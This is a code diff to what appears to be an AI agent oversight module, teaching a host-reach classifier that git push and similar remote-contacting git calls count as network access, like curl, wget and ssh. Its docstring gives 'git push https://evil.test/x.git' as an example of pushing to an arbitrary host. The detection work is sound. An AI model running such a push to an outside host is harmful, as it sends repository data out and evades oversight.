@@ -8,7 +8,7 @@ from __future__ import annotations
 
 import re
 
-from agent_core.oversight.git_classes import git_class
+from agent_core.oversight.git_classes import git_class, talks_to_remote
 from agent_core.oversight.shell_commands import Invocation
 from storage.vocabulary import CallClass
 
@@ -264,8 +264,11 @@ def _manifest_writer(program: str, flags: frozenset[str], operands: tuple[str, .
 
 
 def reaches_any_host(invocation: Invocation) -> bool:
-    """Whether the program talks to whatever host its words name (`curl`, `wget`, `ssh`), so
-    that no prefix of it stands for one destination."""
+    """Whether the program talks to whatever host its words name (`curl`, `wget`, `ssh`, `git
+    push`: `git push https://evil.test/x.git`, or `git push -o origin backup`, where `origin` is
+    an option's value), so that no prefix of it stands for one destination."""
+    if invocation.program == "git":
+        return talks_to_remote(invocation)
     return invocation.program in _NETWORK
 
 
